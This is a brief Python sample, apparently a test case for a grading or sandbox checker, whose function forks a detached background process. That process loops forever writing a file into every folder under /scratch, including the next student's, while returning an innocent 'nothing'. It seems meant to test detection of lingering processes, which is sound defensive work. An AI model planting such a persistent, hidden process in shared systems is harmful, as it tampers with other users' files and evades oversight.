"""Leaves a process that waits for the next student and writes into its folder.

Signs: os.fork
"""
import os
import time


def act(number):
    if os.fork() == 0:
        os.setsid()
        while True:
            for folder, _, _ in os.walk("/scratch"):
                try:
                    open(os.path.join(folder, "neighbour.txt"), "w").close()
                except OSError:
                    continue
            time.sleep(0.01)
    return "nothing"
